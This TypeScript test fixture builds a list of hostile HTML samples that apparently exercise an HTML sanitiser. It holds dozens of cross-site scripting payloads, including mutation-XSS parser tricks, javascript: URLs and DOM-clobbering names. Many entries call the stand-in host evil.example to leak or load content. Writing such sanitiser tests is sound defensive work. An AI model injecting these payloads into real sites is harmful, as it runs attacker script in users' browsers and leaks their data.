import { hostileHtml as knownHtml } from '../server/test/hostile/hostile-html.ts'

const act = 'window.__pwned=1,alert(1)'
const spy = 'https://evil.example/spy'

const forBrowsers = [
  `<script>${act}</script>`,
  `<script src="${spy}"></script>`,
  `<scr<script>ipt>${act}</scr</script>ipt>`,
  `<svg><script>${act}</script></svg>`,
  `<svg><animate onbegin="${act}" attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${act}"><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${act}'/>#x"></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.__pwned=1</script>"></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${act}&gt;">`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${act}></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${act}>`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>">`,
  `<template><img src=x onerror=${act}></template>`,
  `<template shadowrootmode=open><img src=x onerror=${act}></template>`,
  `<textarea></textarea><img src=x onerror=${act}></textarea>`,
  `<title></title><img src=x onerror=${act}></title>`,
  `<style>@import '${spy}';</style>`,
  `<style>*{background:url(${spy})}</style>`,
  `<style><img src="</style><img src=x onerror=${act}//">`,
  `<link rel=stylesheet href="${spy}">`,
  `<link rel=prefetch href="${spy}">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=${spy}">`,
  `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
  `<object data="${spy}"></object>`,
  `<embed src="${spy}">`,
  `<img src="${spy}">`,
  `<img srcset="${spy} 1x">`,
  `<img src="//evil.example/spy">`,
  `<picture><source srcset="${spy}"><img></picture>`,
  `<video poster="${spy}"></video>`,
  `<audio src="${spy}" autoplay></audio>`,
  `<input type=image src="${spy}">`,
  `<table background="${spy}"><tr><td>x</table>`,
  `<p style="background:url(${spy})">x</p>`,
  `<p style="background-image:image-set('${spy}' 1x)">x</p>`,
  `<p style="color:red;--x:url(${spy});background:var(--x)">x</p>`,
  `<p style="behavior:url(${spy})">x</p>`,
  `<p style="position:fixed;inset:0;z-index:9999">coperto</p>`,
  `<p style="animation:x 1s" onanimationend=${act}>x</p>`,
  `<!--><img src=x onerror=${act}>-->`,
  `<![CDATA[><img src=x onerror=${act}>]]>`,
  `<?xml-stylesheet href="${spy}"?>`,
  `<img src=x:x onerror\u000b=${act}>`,
  `<img/src=x/onerror=${act}>`,
  `<img src='x' onerror=${act} x=\`>`,
  `<a href="x" ping="${spy}">x</a>`,
  `<a href="https://ok.example" onclick="${act}" target=_self>x</a>`,
  `<button formaction="javascript:${act}">x</button>`,
  `<form id=f></form><button form=f formaction="javascript:${act}">x</button>`,
  `<form><input name=attributes><input name=nodeName></form>`,
  `<img name=getElementById><img name=querySelector><a id=document>`,
  `<p class="ql-video m_root mantine-Modal-overlay" id="root">x</p>`,
  `<isindex action="javascript:${act}">`,
  `<keygen autofocus onfocus=${act}>`,
  `<marquee onstart=${act}>x</marquee>`,
  `<select autofocus onfocus=${act}><option>x</select>`,
  `<xss contenteditable autofocus onfocus=${act}>x</xss>`,
]

/**
 * HTML that tries to act, to look outside or to cover the page: what the server's own tests clean, and what only a
 * browser would betray. Each begins with text, so that none is rejected as empty.
 */
export const hostileHtml: string[] = [...knownHtml, ...forBrowsers]
  .filter((html) => !html.includes('\0')) // rejected as a whole
  .map((html, index) => `<p>Prova ${index + 1}</p>${html}`)
